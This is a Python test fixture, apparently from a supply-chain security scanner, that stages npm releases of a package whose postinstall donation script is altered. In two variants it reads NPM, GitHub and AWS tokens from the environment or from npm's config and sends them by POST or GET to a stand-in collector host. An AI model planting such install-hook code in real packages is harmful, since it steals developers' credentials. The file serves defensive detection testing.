"""An install script that was there before, and whose file does more now.

package.json does not change, so nothing that only compares commands sees it: the postinstall that
has thanked for years for donations now also reads tokens and posts them. Here they go nowhere.

Described in: "Backstabber's Knife Collection: a review of open source software supply chain
attacks" (Ohm et al., 2020).
In the staged tarball: a changed file that npm runs on installation, with tokens and the network in
it.
"""

from tests.findings.attack import Attack, release

_SOURCE = "exports.polyfill = (target, source) => Object.assign(target, source);\n"
_NEXT = "exports.polyfill = (target, ...sources) => Object.assign(target, ...sources);\n"
_BANNER = """\
const env = process.env;
const isQuiet = Boolean(env.CI || env.DISABLE_THANKS || env.npm_config_loglevel === 'silent');

if (!isQuiet) {
  console.log('Thank you for using polyfill-parts!');
  console.log('The project needs your help: https://donate.example.org/polyfill-parts');
}
"""
_THEFT = """
const { NPM_TOKEN, GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY } = env;
if (NPM_TOKEN || GITHUB_TOKEN || AWS_SECRET_ACCESS_KEY) {
  const body = JSON.stringify({ NPM_TOKEN, GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY });
  fetch('https://collect.example.invalid/thanks', { method: 'POST', body }).catch(() => {});<<<exfiltration>>>
}
"""
_COMMAND = """
const { execSync } = require('child_process');
const secret = execSync('npm config get //registry.example.org/:_authToken').toString();
require('https').get('https://collect.example.invalid/?' + encodeURIComponent(secret));<<<exfiltration>>>
"""
_SCRIPTS = {"postinstall": "node scripts/thanks.js"}


def _with(version: str, source: str, script: str) -> dict[str, str | bytes]:
    files = {"index.js": source, "scripts/thanks.js": script}
    return release("polyfill-parts", version, files, scripts=_SCRIPTS)


ATTACK = Attack(
    before=_with("3.6.0", _SOURCE, _BANNER),
    unharmed=_with("3.6.1", _NEXT, _BANNER.replace("your help", "your support")),
    after={
        "tokens by name": _with("3.6.1", _NEXT, _BANNER + _THEFT),
        "npm's own answer": _with("3.6.1", _NEXT, _BANNER + _COMMAND),
    },
)
